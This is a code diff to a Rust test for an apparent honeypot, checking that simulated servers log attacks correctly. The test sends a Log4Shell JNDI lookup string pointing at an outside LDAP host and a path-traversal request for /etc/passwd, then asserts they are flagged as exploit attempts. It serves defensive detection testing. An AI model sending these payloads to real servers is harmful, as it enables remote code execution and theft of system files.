@@ -184,24 +184,34 @@ fake_app = tomcat
         &["-A", "${jndi:ldap://203.0.113.9/a}", "-o", "/dev/null", &format!("http://{}/", java.address)],
     );
 
+    // A way out of the site's root, which the server does not even take for a request.
+    curl(&lab, &["--path-as-is", "-o", "/dev/null", &format!("http://{}/../../etc/passwd", java.address)]);
+    let plain =
+        curl(&lab, &["-o", "/dev/null", "-w", "%{http_code}", &format!("http://{}:443/", blog.address)]);
+    assert_eq!(plain, "400");
+
     let events = lab.finish();
     assert_sound(&events, lab.attacker());
     let failed = |user: &str, password: &str| (user.to_owned(), password.to_owned(), Outcome::Failed);
     assert_eq!(logins(&of(&events, blog, "http")), [failed("admin", "päss wörd")]);
     assert_eq!(logins(&of(&events, java, "http")), [failed("tomcat", "s3cret")]);
+    let mut exploits = Vec::new();
     for event in &events {
         match &event.report.body {
             Body::AuthAttempt { .. } => assert_eq!(event.severity, Severity::Warning),
             Body::ExploitAttempt { name, .. } => {
                 assert_eq!(event.severity, Severity::Critical);
-                assert!(name.contains("CVE-2021-44228"), "{name}");
                 assert_eq!(event.speaker.decky, "java");
+                exploits.push(name.as_str());
             }
+            Body::ScanProbe { kind } if event.report.dst_port == 443 => assert_eq!(kind, "wrong_protocol"),
             _ => {}
         }
     }
-    let exploits = events.iter().filter(|event| matches!(event.report.body, Body::ExploitAttempt { .. }));
-    assert_eq!(exploits.count(), 1);
+    assert_eq!(exploits, ["CVE-2021-44228", "path-traversal"]);
+    assert!(
+        of(&events, blog, "http").iter().any(|event| matches!(event.report.body, Body::ScanProbe { .. }))
+    );
 }
 
 /// One decky of every family of servers, each with what `-sV` must call it: the product and, where it has
